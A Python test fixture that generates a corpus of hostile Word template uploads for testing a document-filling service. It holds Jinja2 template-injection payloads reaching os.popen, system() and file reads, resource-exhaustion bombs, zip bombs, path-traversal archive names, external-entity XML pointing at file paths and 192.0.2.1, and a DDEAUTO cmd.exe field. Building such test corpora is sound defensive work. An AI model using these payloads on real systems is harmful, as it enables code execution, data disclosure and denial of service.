"""
Five hundred files somebody might upload as a template to break the desk, made by program.

Each carries a name that says what it tries. `CANARY` stands in a file some of them try to read,
`TOUCHED` is a file some try to make.
"""

from __future__ import annotations

import functools
import io
import itertools
import random
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from tempfile import gettempdir

from documents.lint import Shape
from tests.documents.papers import docx, p, part, table
from tests.documents.papers import field as word_field

CANARY = "机密暗语九"
SECRET = f"{gettempdir()}/kuaijie-canary"
TOUCHED = f"{gettempdir()}/kuaijie-touched"

WORKER = (
    Shape("name", "姓名", "文字"),
    Shape("due", "应付", "金额"),
    Shape("account", "账号", "文字", required=False),
)
SHAPES = (
    Shape("case_number", "案号", "文字", required=False),
    Shape("due_on", "付款日", "日期", required=False),
    Shape("total", "合计", "金额", required=False),
    Shape("count", "人数", "数目", required=False),
    Shape("at", "时间", "日期时间", required=False),
    Shape("workers", "劳动者", "表", required=False, of=WORKER),
    Shape("parties", "当事人", "表", required=False, of=WORKER),
    Shape("notes", "条目", "条目", required=False),
    Shape("payer", "付款人", "栏组", required=False, of=WORKER),
)
_AMOUNT = {"digits": "1.00", "grouped": "1.00", "upper": "人民币壹元整"}
_ROW = {"name": "王小明", "due": _AMOUNT, "account": None}
SAMPLE = {
    "case_number": "示农薪调字〔2026〕1号",
    "due_on": "2026-01-01",
    "total": _AMOUNT,
    "count": 50,
    "at": {"iso": "2026-01-01T09:00", "text": "2026年1月1日上午9时"},
    "workers": [_ROW] * 50,
    "parties": [_ROW] * 50,
    "notes": ["甲", "乙"],
    "payer": _ROW,
}

TAGS, PACKAGE, LAYOUT = "tags", "package", "layout"


@dataclass(frozen=True)
class Hostile:
    """
    One file.

    family: TAGS are Word files with hostile tags, PACKAGE files that lie or act, LAYOUT files with
    impossible formats. A LAYOUT file may also be printed, if it is printed within the limits.
    """

    name: str
    family: str
    make: Callable[[], bytes]

    @functools.cached_property
    def file(self) -> bytes:
        return self.make()


def corpus() -> list[Hostile]:
    """All five hundred, always the same."""
    found = [
        *_named("标记", TAGS, ((text[:60], functools.partial(_tagged, text)) for text in _tags())),
        *_named("部件", PACKAGE, _packages()),
        *_named("压缩", PACKAGE, _zips()),
        *_named("XML", PACKAGE, _xml()),
        *_named("版面", LAYOUT, _layouts()),
    ]
    return found


def spread(count: int) -> list[Hostile]:
    """`count` of them, evenly over the corpus."""
    found = corpus()
    return [found[place * len(found) // count] for place in range(count)]


def _named(kind: str, family: str, made) -> Iterator[Hostile]:
    for number, (name, make) in enumerate(made, 1):
        yield Hostile(f"{kind}{number:03d} {name}", family, make)


def _tagged(text: str) -> bytes:
    return docx(p("第一段"), p(text), p("末段"))


# Tags

_OBJECTS = (
    *("cycler", "joiner", "namespace", "lipsum", "dict", "range", "self", "config", "request"),
    *("''", "[]", "()", "case_number", "workers", "workers[0]", "payer"),
)
_WALKS = (
    ".__class__.__mro__[1].__subclasses__()",
    ".__init__.__globals__['os'].popen('touch {touched}').read()",
    ".__init__.__globals__.__builtins__.open('{secret}').read()",
    "['__class__']['__base__']",
    "|attr('__class__')|attr('__mro__')",
    "|attr('\\x5f\\x5fclass\\x5f\\x5f')",
    ".__class__.__init__.__globals__",
    "|map(attribute='__class__')|list",
    "|selectattr('__class__')|list",
)
SINGLE = (
    "{{ ''.join(['a','b']).__class__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._environment }}",
    "{{ caller() }}",
    "{{ varargs }}{{ kwargs }}",
    "{{ [].append(1) }}",
    "{{ payer.update({'a': 1}) }}",
    "{{ payer.clear() }}",
    "{{ workers.pop() }}",
    "{{ workers.sort() }}",
    "{{ payer.pop('name') }}",
    "{{ payer|items|list }}",
    "{{ payer.items()|list }}",
    "{{ payer|dictsort }}",
    "{{ payer|xmlattr }}",
    "{{ payer|tojson }}",
    "{{ payer|pprint }}",
    "{{ '<w:p/>'|safe }}",
    "{% autoescape false %}{{ case_number }}{% endautoescape %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% with a = 1 %}{{ a }}{% endwith %}",
    "{% debug %}",
    "{% do workers.clear() %}",
    "{% trans %}x{% endtrans %}",
    "{% block a %}{% endblock %}{{ self.a() }}",
    "{{ super() }}",
    "{{ gettext('x') }}",
)
_FORMATS = (
    "{{ '{0.__class__}'.format(payer) }}",
    "{{ '{0.__init__.__globals__}'.format(cycler) }}",
    "{{ '{a.__class__}'.format_map({'a': payer}) }}",
    "{{ '{0[__class__]}'.format(payer) }}",
    "{{ '{:>999999999}'.format('a') }}",
    "{{ '{:{}}'.format('a', 999999999) }}",
    "{{ '{0!r:999999999}'.format(payer) }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '%s' % payer }}",
    "{{ '%(name)s' % payer }}",
    "{{ '%*d' % (999999999, 1) }}",
    "{{ '%s%s'|format(payer, cycler) }}",
    "{{ '%999999999s'|format('a') }}",
    "{{ 'a'.ljust(999999999) }}",
    "{{ 'a'.center(999999999) }}",
    "{{ 'a'.zfill(999999999) }}",
    "{{ 'a\\tb'.expandtabs(999999999) }}",
    "{{ ('a' * 9999).join(['b'] * 99999) }}",
    "{{ 'a'.replace('', 'b' * 9999999) }}",
    "{{ 'a'.encode('utf-8').hex() }}",
    "{{ 'ab'.translate({97: 'b' * 9999999}) }}",
)
_BOMBS = (
    "{{ 'a' * 999999999 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 2 ** 99999999 }}",
    "{{ (2 ** 9999999)|string|length }}",
    "{{ [1] * 999999999 }}",
    "{{ [[1] * 9999] * 99999 }}",
    "{{ range(99999999999)|list }}",
    "{{ range(9999999)|sum }}",
    "{{ range(9999999)|list|length }}",
    "{{ range(9999999)|join(',') }}",
    "{{ range(9999999)|random }}",
    "{{ range(999999)|batch(1)|list|length }}",
    "{{ range(9)|slice(99999999)|list|length }}",
    "{{ range(999999)|groupby('x')|list }}",
    "{{ lipsum(n=999999) }}",
    "{{ lipsum(n=9, min=9999999, max=99999999) }}",
    "{{ 'a'|center(999999999) }}",
    "{{ 'a\\n'|indent(999999999) }}",
    "{{ 'a b'|wordwrap(0) }}",
    "{{ ('a' * 99999)|wordwrap(1) }}",
    "{{ ('a' * 999999)|urlize }}",
    "{{ ('<' * 999999)|striptags }}",
    "{{ ('a' * 99999)|replace('a', 'b' * 99999) }}",
    "{{ ('a ' * 999999)|title }}",
    "{{ 'aaaaaaaaaa'" + "|replace('a', 'aaaaaaaaaa')" * 9 + " }}",
    "{{ " + "(" * 150 + "1" + ")" * 150 + " }}",
    "{{ " + "[" * 150 + "]" * 150 + " }}",
    "{{ " + "not " * 800 + "1 }}",
    "{{ " + "-" * 900 + "1 }}",
    "{{ 1" + " + 1" * 240 + " }}",
    "{{ a" + ".b" * 400 + " }}",
    "{{ case_number" + "|trim" * 150 + " }}",
    "{{ 'a'" + " ~ 'a'" * 190 + " }}",
    "{% set a = 'x' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}",
    "{% set a = 'x' %}" + "{% set a = a + a %}" * 40 + "{{ a }}",
    "{% set a = [1] %}" + "{% set a = a + a %}" * 40 + "{{ a|length }}",
    "{% set n = namespace(a='x') %}{% for w in range(90) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
    "{% set n = namespace(a='x') %}{% for w in range(90) %}{% set n.a = n.a|replace('x', 'xx') %}"
    "{% endfor %}",
    "{% set n = namespace(a=2) %}{% for w in range(90) %}{% set n.a = n.a * n.a %}{% endfor %}",
    "{% set n = namespace(a=[]) %}{% for w in range(99) %}{% set n.a = [n.a, n.a] %}{% endfor %}"
    "{{ n.a }}",
    "{% for a in range(99999999) %}{% endfor %}",
    "{% for a in workers recursive %}{{ loop(workers) }}{% endfor %}",
    "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
    "{% call(x) joiner() %}{% endcall %}",
    "{% filter upper %}" + "甲" * 500 + "{% endfilter %}",
    "{% set a %}" + "甲" * 500 + "{% endset %}{{ a * 9999999 }}",
    "{% set c = cycler('a', 'b') %}{% for i in range(9999999) %}{{ c.next() }}{% endfor %}",
    "{% set j = joiner(',') %}{% for i in range(9999999) %}{{ j() }}{% endfor %}",
    "{% for a in 'x' * 999999 %}{% for b in 'x' * 999999 %}{% endfor %}{% endfor %}",
    "{% if 'a' * 999999999 == 'b' %}{% endif %}",
    "{% for a in workers if range(99999999)|list %}{% endfor %}",
    "{{ ('(' * 999) in ('(' * 9999999) }}",
    "{{ 99999999999999999999999999999999999999999999 * 9 }}",
    "{{ 1e308 * 10 }}",
    "{{ '" + "a" * 900 + "' }}",
    "{{ workers|map('replace', '', 'x' * 9999999)|join }}",
    "{{ workers|sort(attribute='name')|map('center', 999999999)|join }}",
    "{{ workers|sum(attribute='name', start='x' * 999999999) }}",
    "{{ workers[:99999999999999999999] }}",
    "{{ case_number[::0] }}",
    "{{ dict(a=1, **payer) }}",
    "{{ range(*workers) }}",
)
_FILES = (
    "{% include 'D01.docx' %}",
    "{% include '../../../etc/passwd' %}",
    "{% include ['a', 'b'] ignore missing %}",
    "{% import 'os' as os %}",
    "{% from 'os' import system %}",
    "{% extends 'base.html' %}",
    "{% extends payer %}",
    "{{ include('/etc/passwd') }}",
    "{{ subdoc('x.docx') }}",
    "{{ open('{secret}').read() }}",
    "{{ __import__('os').system('touch {touched}') }}",
    "{{ eval('1') }}{{ exec('1') }}",
    "{{ payer.__dict__ }}",
    "{{ tpl.replace_media('a', '{secret}') }}",
    "{{ tpl.new_subdoc('{secret}') }}",
    "{{r payer }}",
    "{{p subdoc }}",
    "{% colspan 999999999 %}",
    "{% colspan ''.__class__ %}",
    "{% cellbg lipsum.__globals__ %}",
    "{% hm %}{% vm %}{% colspan range(99999999)|list|length %}",
)


def walks() -> Iterator[str]:
    """Tags that try to walk from something printed to Python itself."""
    for one, walk in itertools.product(_OBJECTS, _WALKS):
        yield "{{ " + one + walk.replace("{secret}", SECRET).replace("{touched}", TOUCHED) + " }}"


def _tags() -> Iterator[str]:
    yield from walks()
    for text in (*SINGLE, *_FORMATS, *_BOMBS, *_FILES):
        yield text.replace("{secret}", SECRET).replace("{touched}", TOUCHED)
    for depth in range(2, 9):
        names = [f"a{level}" for level in range(depth)]
        for source in ("range(99999)", "workers", "workers + workers"):
            opened = "".join(f"{{% for {name} in {source} %}}" for name in names)
            yield opened + "x" + "{% endfor %}" * depth


# Files that lie about themselves, or act


def _repacked(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A plain file with its members changed."""
    with zipfile.ZipFile(io.BytesIO(_tagged("{{ case_number }}"))) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return _packed(members.items())


def _packed(members, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.simplefilter("ignore")  # the same name twice is meant
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def _adds(**members: bytes) -> Callable[[], bytes]:
    return functools.partial(_with, {name: content for name, content in members.items()})


def _with(added: dict[str, bytes]) -> bytes:
    return _repacked(lambda members: members.update(added))


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "word/_rels/document.xml.rels"


def _relation(kind: str, target: str, mode: str, where: str = _RELS) -> bytes:
    def change(members: dict[str, bytes]) -> None:
        extra = f'<Relationship Id="rIdX" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/>'
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        rels = members.get(where, empty).decode()
        members[where] = rels.replace("</Relationships>", f"{extra}</Relationships>").encode()

    return _repacked(change)


def _typed(old: str, new: str) -> bytes:
    def change(members: dict[str, bytes]) -> None:
        types = members["[Content_Types].xml"].decode()
        members["[Content_Types].xml"] = types.replace(old, new, 1).encode()

    return _repacked(change)


def _packages() -> Iterator[tuple[str, Callable[[], bytes]]]:
    for name in (
        *("word/vbaProject.bin", "word/vbaData.xml", "word/VBAPROJECT.BIN", "xl/vbaProject.bin"),
        *("word/activeX/activeX1.xml", "word/activeX/activeX1.bin", "word/ActiveX/x.xml"),
        *("word/embeddings/oleObject1.bin", "word/embeddings/Microsoft_Excel.xlsx"),
        *("word/embeddings/x.docx", "word/oleObject1.bin", "customUI/customUI.xml"),
        *("customUI/customUI14.xml", "word/afchunk.mht", "word/afchunk1.html", "word/x.rtf"),
        *("word/media/run.exe", "word/run.js", "evil.sh", "word/x.vbs", "word/media/x.lnk"),
        *("payload", "word/payload.dll", "META-INF/MANIFEST.MF", "word/x.py", "a.jar"),
    ):
        yield name, functools.partial(_with, {name: b"<x/>"})
    for kind in (
        *("attachedTemplate", "image", "hyperlink", "oleObject", "frame", "subDocument"),
        *("aFChunk", "package", "control", "mailMergeSource", "styles", "footer"),
    ):
        for target in ("http://192.0.2.1/x", "file:///etc/passwd", "\\\\192.0.2.1\\share\\x"):
            mode = ' TargetMode="External"'
            yield f"{kind} {target}", functools.partial(_relation, kind, target, mode)
    for kind in ("attachedTemplate", "oleObject", "control", "vbaProject", "subDocument"):
        yield f"{kind} 内部", functools.partial(_relation, kind, "x.bin", "")
    for target in ("../../../../etc/passwd", "/../../etc/passwd", "..\\..\\x", "C:/x"):
        yield f"指向外面 {target}", functools.partial(_relation, "image", target, "")
    main = "wordprocessingml.document.main+xml"
    for new in ("wordprocessingml.template.main+xml", "spreadsheetml.sheet.main+xml", "x"):
        yield f"主部件是 {new}", functools.partial(_typed, main, new)
    for old, new in (
        (
            f"application/vnd.openxmlformats-officedocument.{main}",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        ("application/xml", "application/vnd.ms-office.vbaProject"),
        ("application/xml", "application/vnd.ms-office.activeX+xml"),
    ):  # fmt: skip
        yield f"类型 {new}", functools.partial(_typed, old, new)
    for field in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        'INCLUDETEXT "file:///etc/passwd"',
        'INCLUDEPICTURE "http://192.0.2.1/x.png"',
        'LINK Excel.Sheet.8 "x.xlsx"',
        "MACROBUTTON evil",
        "AUTOTEXT x",
    ):
        yield f"域 {field[:12]}", functools.partial(docx, f"<w:p>{word_field(field)}</w:p>")


# Zips


def _zips() -> Iterator[tuple[str, Callable[[], bytes]]]:
    plain = functools.lru_cache(lambda: _tagged("{{ case_number }}"))
    for place in range(1, 21):
        yield (
            f"截断到{place * 5 - 3}%",
            lambda k=place: plain()[: len(plain()) * (k * 5 - 3) // 100],
        )
    for seed in range(20):
        yield f"翻转第{seed}组字节", functools.partial(_flipped, seed)
    for name in (
        *(
            "../../etc/passwd",
            "/etc/passwd",
            "..\\..\\x",
            "C:\\x",
            "word/../../x",
            "word\\..\\..\\x",
        ),
        *("word/document.xml\0.txt", "file:///x", "./../x", "a" * 60_000),
    ):
        yield f"名称 {name[:20]!r}", functools.partial(_with, {name: b"x"})
    for name in (
        "word/document.xml",
        "Word/Document.XML",
        "[Content_Types].xml",
        "word/STYLES.xml",
    ):
        yield f"重名 {name}", functools.partial(_doubled, name)
    for size in (33, 200, 600):
        yield f"{size}MB 的零", functools.partial(_zeros, size)
    for claimed in (0, 1, 1000, 2**31, 2**32 - 1):
        yield f"谎报大小 {claimed}", functools.partial(_lies, claimed)
    yield "两千个部件", lambda: _with({f"word/x{n}.xml": b"<x/>" for n in range(2000)})
    yield "套着的压缩包", lambda: _with({"word/media/x.zip": _zeros(40)})
    yield "加密", lambda: _flagged(0x1)
    yield "压缩法未知", lambda: _method(99)
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield f"压缩法{method}", functools.partial(_method, method)
    yield "目录指向另一个部件", _crossed
    yield "部件叠在一起", _overlapping
    yield "没有正文", lambda: _repacked(lambda members: members.pop("word/document.xml") and None)
    yield (
        "没有部件目录",
        lambda: _repacked(lambda members: members.pop("[Content_Types].xml") and None),
    )
    for name, content in (
        ("空", b""),
        ("PDF", b"%PDF-1.7\n"),
        ("旧 Word", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
        ("RTF", b"{\\rtf1 x}"),
        ("空压缩包", b"PK\x05\x06" + b"\0" * 18),
        ("随机", random.Random(1).randbytes(20_000)),
        ("目录在远处", b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 9, 9, 999, 2**32 - 9, 0)),
    ):
        yield name, lambda content=content: content


def _flipped(seed: int) -> bytes:
    chance = random.Random(seed)
    content = bytearray(_tagged("{{ case_number }}"))
    for _ in range(1 + seed * 3):
        content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
    return bytes(content)


def _doubled(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(_tagged("{{ case_number }}"))) as archive:
        members = [(one, archive.read(one)) for one in archive.namelist()]
    return _packed([*members, (name, b"<x/>")])


@functools.lru_cache
def _zeros(megabytes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("word/document.xml", "w") as member:
            for _ in range(megabytes):
                member.write(b"\0" * 1024 * 1024)
        archive.writestr("[Content_Types].xml", b"<Types/>")
    return out.getvalue()


def _lies(claimed: int) -> bytes:
    """Thirty megabytes of blanks in the body, said to be `claimed` bytes."""
    content = bytearray(
        _repacked(lambda members: members.update({"word/document.xml": b" " * 30_000_000}))
    )
    for start, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = -1
        while (place := content.find(start, place + 1)) >= 0:
            if struct.unpack_from("<L", content, place + offset)[0] == 30_000_000:
                struct.pack_into("<L", content, place + offset, claimed)
    return bytes(content)


def _flagged(flag: int) -> bytes:
    content = bytearray(_tagged("{{ case_number }}"))
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        content[place + 8] |= flag
    return bytes(content)


def _method(method: int) -> bytes:
    if method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        with zipfile.ZipFile(io.BytesIO(_tagged("{{ case_number }}"))) as archive:
            return _packed(((n, archive.read(n)) for n in archive.namelist()), method)
    content = bytearray(_tagged("{{ case_number }}"))
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        struct.pack_into("<H", content, place + 10, method)
    return bytes(content)


def _places(content: bytes) -> list[int]:
    places, place = [], -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        places.append(place)
    return places


def _crossed() -> bytes:
    """The directory says styles.xml where document.xml lies."""
    content = bytearray(_tagged("{{ case_number }}"))
    first, second = _places(content)[-2:]
    one, other = (struct.unpack_from("<L", content, place + 42)[0] for place in (first, second))
    struct.pack_into("<L", content, first + 42, other)
    struct.pack_into("<L", content, second + 42, one)
    return bytes(content)


def _overlapping() -> bytes:
    content = bytearray(_tagged("{{ case_number }}"))
    places = _places(content)
    where = struct.unpack_from("<L", content, places[0] + 42)[0]
    for place in places:
        struct.pack_into("<L", content, place + 42, where)
    return bytes(content)


# XML

_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
_DECLARATIONS = {
    "十亿笑声": _LAUGHS,
    "外部文件": f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{SECRET}">]>',
    "外部网址": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/x">]>',
    "参数实体": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>',
    "外部 DTD": '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
}
_XML_PARTS = (
    "word/document.xml",
    "word/styles.xml",
    "word/footer1.xml",
    "docProps/core.xml",
    "[Content_Types].xml",
    "word/_rels/document.xml.rels",
)


def _xml() -> Iterator[tuple[str, Callable[[], bytes]]]:
    for (called, declared), name in itertools.product(_DECLARATIONS.items(), _XML_PARTS):
        yield f"{called} {name}", functools.partial(_declared, name, declared)
    for encoding in ("utf-16", "utf-16-be", "utf-7", "gb18030", "utf-32"):
        yield f"编码 {encoding}", functools.partial(_encoded, encoding)
    for name in _XML_PARTS[:3]:
        yield f"断开的 {name}", functools.partial(_changed, name, lambda xml: xml[: len(xml) // 2])
        yield f"不是 XML {name}", functools.partial(_changed, name, lambda xml: b"\x01\x02" * 99)
        yield (
            f"层层套叠 {name}",
            functools.partial(_changed, name, lambda xml: b"<a>" * 100_000 + b"</a>" * 100_000),
        )
        yield (
            f"属性过多 {name}",
            functools.partial(
                _changed,
                name,
                lambda xml: b"<a " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/>",
            ),
        )


def _changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    return _repacked(lambda members: members.update({name: change(members[name])}))


def _declared(name: str, declaration: str) -> bytes:
    def change(xml: bytes) -> bytes:
        head, _, rest = xml.decode().partition("?>\n")
        used = rest.replace(">", ">&a;" if "ENTITY %" not in declaration else ">", 1)
        return f"{head}?>\n{declaration}{used}".encode()

    return _changed(name, change)


def _encoded(encoding: str) -> bytes:
    text = part(_tagged("{{ case_number }}")).replace("UTF-8", encoding)
    declared = text.replace("?>", "?>" + _DECLARATIONS["外部文件"], 1)
    return _changed("word/document.xml", lambda xml: declared.encode(encoding))


# Formats nobody can print


def _sheet(old: str, new: str) -> bytes:
    def change(xml: bytes) -> bytes:
        return xml.replace(old.encode(), new.encode())

    return _changed("word/document.xml", change)


_STOP = '<w:tab w:val="left" w:pos="9"/>'


def _layouts() -> Iterator[tuple[str, Callable[[], bytes]]]:
    for value in ("0", "-1", "1", "99999999", "NaN", "1e400", "", "x"):
        yield f"纸宽 {value}", functools.partial(_sheet, 'w:w="11906"', f'w:w="{value}"')
        yield f"左边距 {value}", functools.partial(_sheet, 'w:left="1588"', f'w:left="{value}"')
        yield f"上边距 {value}", functools.partial(_sheet, 'w:top="2098"', f'w:top="{value}"')
        size = f'<w:sz w:val="{value}"/>'
        yield f"字号 {value}", functools.partial(docx, p("字" * 200, run=size))
        line = f'<w:spacing w:line="{value}" w:lineRule="exact"/>'
        yield f"行距 {value}", functools.partial(docx, p("字" * 200, line))
        indent = f'<w:ind w:left="{value}" w:firstLineChars="{value}"/>'
        yield f"缩进 {value}", functools.partial(docx, p("字" * 200, indent))
        height = f'<w:trHeight w:val="{value}" w:hRule="exact"/>'
        yield f"行高 {value}", functools.partial(docx, table([["甲"] * 3], [2000] * 3, row=height))
        span = f'<w:tcPr><w:gridSpan w:val="{value}"/></w:tcPr>'
        wide = table([["甲"]], [2000]).replace("<w:tc>", f"<w:tc>{span}")
        yield f"跨列 {value}", functools.partial(docx, wide)
        grid = f'<w:gridCol w:w="{value}"/>'
        narrow = table([["甲" * 50]], [2000]).replace('<w:gridCol w:w="2000"/>', grid)
        yield f"列宽 {value}", functools.partial(docx, narrow)
    yield "十万个空段", lambda: docx(p() * 100_000)
    yield "一段两百万字", lambda: docx(p("字" * 2_000_000))
    yield "万行的表", lambda: docx(table([["甲", "乙"]] * 10_000, [2000, 2000]))
    yield "五千列的表", lambda: docx(table([["甲"] * 5000], [10] * 5000))
    yield "层层套叠的表", lambda: docx(_nested(200))
    yield "样式互为基础", _circular
    yield "五万个制表位", lambda: docx(p("甲\t乙", "<w:tabs>" + _STOP * 50_000 + "</w:tabs>"))
    yield "五万次分页", lambda: docx('<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 50_000)


def _nested(depth: int) -> str:
    inner = p("甲")
    for _ in range(depth):
        inner = table([[inner]], [2000])
    return inner


def _circular() -> bytes:
    loop = (
        b'<w:style w:type="paragraph" w:default="1" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        b'<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    return _changed("word/styles.xml", lambda xml: xml.replace(b"</w:styles>", loop))
